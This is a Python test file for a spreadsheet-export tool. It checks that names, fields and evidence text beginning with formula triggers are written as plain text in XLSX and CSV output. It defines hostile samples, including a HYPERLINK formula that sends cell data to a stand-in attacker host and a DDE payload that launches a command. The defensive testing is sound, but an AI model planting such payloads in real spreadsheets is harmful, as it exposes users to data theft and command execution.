"""Formula injection (issue 22.3): names, fields, recommendations and evidence that start
with = + - @ (or a tab / CR) stay text in every spreadsheet cchc writes, while the sums
cchc writes itself stay formulas."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import json
import re
import zipfile
from pathlib import Path

import pytest
from archive_plan import PLAN
from archive_records import make_record, stats_row
from openpyxl import load_workbook

from cchc.archive import recommendations as recs
from cchc.archive import store
from cchc.archive.summary_data import round_summary
from cchc.extractors.batch import Outcome, write_summary
from cchc.generator.stats_form import write_stats_form
from cchc.generator.summary_xlsx import write_summary_xlsx

EVIL_UNIT = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
EVIL_FIELD = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_TEXT = "+1+2"
EVIL_EVIDENCE = "-2+3"
EVILS = (EVIL_UNIT, EVIL_FIELD, EVIL_TEXT, EVIL_EVIDENCE, "\t=1+1", "\r=1+1")
EXAMPLE = Path(__file__).resolve().parents[2] / "cchc" / "examples" / "stats.json"


def _formulas(path: Path) -> list[str]:
    """Every formula the workbook holds, read from its XML (what Excel would compute)."""
    with zipfile.ZipFile(path) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/sheet")
                for f in re.findall(r"<f>(.*?)</f>", z.read(name).decode())]


def _assert_text(cell, value: str) -> None:
    assert cell.value == value and cell.data_type == "s", (cell.coordinate, cell.value)
    assert cell.quotePrefix, cell.coordinate


def test_round_summary_keeps_hostile_names_as_text(archive, tmp_path):
    plan = copy.deepcopy(PLAN)  # the hostile name is in the schedule: it reached the sheet
    plan["schedule"][0]["groups"][0]["units"].append(
        {"name": EVIL_UNIT, "short": "Kẻ gian", "level": "sở, ngành"})
    store.create_round(archive, "2023", plan=plan)
    rows = [stats_row(1, EVIL_FIELD, 30, 10, 36, 4)]
    store.import_record(archive, "2023", make_record(EVIL_UNIT, rows=rows), b"a", "a.docx")
    recs.add_recommendations(archive, "2023", EVIL_UNIT,
                             [{"text": EVIL_TEXT, "deadline": "2099-12-31"}])
    recs.update_recommendation(archive, 1, status="remedied", evidence=EVIL_EVIDENCE)
    data = round_summary(archive, "2023", today=dt.date(2024, 3, 1))
    path = write_summary_xlsx(data, tmp_path / "tong-hop.xlsx")
    assert not _formulas(path)
    wb = load_workbook(path)
    by_value = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if isinstance(c.value, str)}
    for value in (EVIL_UNIT, EVIL_TEXT, EVIL_EVIDENCE):
        _assert_text(by_value[value], value)
    field = [c for c in by_value.values() if c.value.startswith("@SUM")]
    assert field or EVIL_FIELD not in str(data)
    for cell in field:
        _assert_text(cell, cell.value)


def test_stats_form_keeps_hostile_text_as_text_and_its_own_sums_as_formulas(tmp_path):
    data = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    data = copy.deepcopy(data)
    data["unit"]["name"] = EVIL_UNIT
    data["rows"][0]["field"] = EVIL_FIELD
    data["rows"][1]["field"] = EVIL_TEXT
    data["rows"][0]["stt"] = EVIL_EVIDENCE
    path = write_stats_form(data, tmp_path / "bieu.xlsx")
    formulas = _formulas(path)
    assert formulas and all(re.fullmatch(r'IF\(COUNT\([A-P0-9:,]+\)=0,"",'
                                         r'SUM\([A-P0-9:,]+\)\)', f) for f in formulas), formulas
    ws = load_workbook(path).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for value in (EVIL_FIELD, EVIL_TEXT, EVIL_EVIDENCE):
        _assert_text(cells[value], value)
    own = [c.value for c in cells.values() if c.data_type == "f"]
    assert len(own) == len(formulas), own  # the only formulas: the sums cchc wrote


def test_extract_summary_csv_defuses_hostile_text(tmp_path):
    outcomes = [Outcome(file=f"{i}.docx", unit=evil, rows=3, indicators=2, warnings=0)
                for i, evil in enumerate(EVILS)]
    outcomes.append(Outcome(file="=cmd.docx", status="error", error="@lỗi"))
    outcomes.append(Outcome(file="tot.docx", unit="Sở Tư pháp", rows=1))
    write_summary(outcomes, tmp_path / "summary.csv")
    with (tmp_path / "summary.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    fields = [v for row in table[1:] for v in row]
    assert not [v for v in fields if v[:1] in ("=", "+", "-", "@", "\t", "\r")], fields
    assert [row[2] for row in table[1:len(EVILS) + 1]] == ["'" + e for e in EVILS]
    assert table[-2][0] == "'=cmd.docx" and table[-2][6] == "'@lỗi"
    assert table[-1][2:4] == ["Sở Tư pháp", "1"]


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\tx", "\rx"])
def test_one_rule_for_every_trigger(value):
    from openpyxl import Workbook

    from cchc.core.cells import csv_text, put, put_formula
    ws = Workbook().active
    _assert_text(put(ws, 1, 1, value), value)
    assert put(ws, 2, 1, "Sở Xây dựng").quotePrefix is False
    assert put(ws, 3, 1, -5).data_type == "n" and csv_text(-5) == "-5"
    assert csv_text(value) == "'" + value
    assert put_formula(ws, 4, 1, "=SUM(A1:A3)").data_type == "f"
    with pytest.raises(ValueError):
        put_formula(ws, 5, 1, "SUM(A1)")
